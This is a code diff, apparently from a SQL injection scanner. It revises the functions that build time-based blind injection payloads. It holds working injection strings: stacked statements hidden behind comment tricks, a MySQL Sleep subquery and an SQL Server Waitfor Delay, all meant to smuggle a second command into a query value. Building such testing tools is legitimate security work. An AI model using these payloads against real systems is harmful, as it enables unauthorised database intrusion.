@@ -101,8 +101,13 @@ const ANY = ['text', 'number'] as const
 /** Where a condition or an expression within the statement would not parse: a limit, a name. */
 const BARE = ['number', 'name'] as const
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
-/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
-const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
+/**
+ * Behind a number the comment hides the first of the two, behind text the line comment hides the second. A bare name keeps
+ * its own: it may be that of a table.
+ */
+const followed = (v: string, statement: string): string =>
+  isName(v) ? `${v};${statement}-- -` : `${number(v)}/*';${statement}-- */;${statement}-- -`
+export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
 const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
 
 export const WAITING: readonly Waiting[] = [
@@ -131,7 +136,8 @@ export const WAITING: readonly Waiting[] = [
     dbms: 'Microsoft SQL Server',
     technique: 'stacked',
     fits: ANY,
-    with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`),
+    // Names, too, are tried as what stands in quotes: there is no other way of waiting here.
+    with: (v, s) => followed(isName(v) ? '' : v, `Waitfor Delay '0:0:${s}'`),
   },
 ]
 
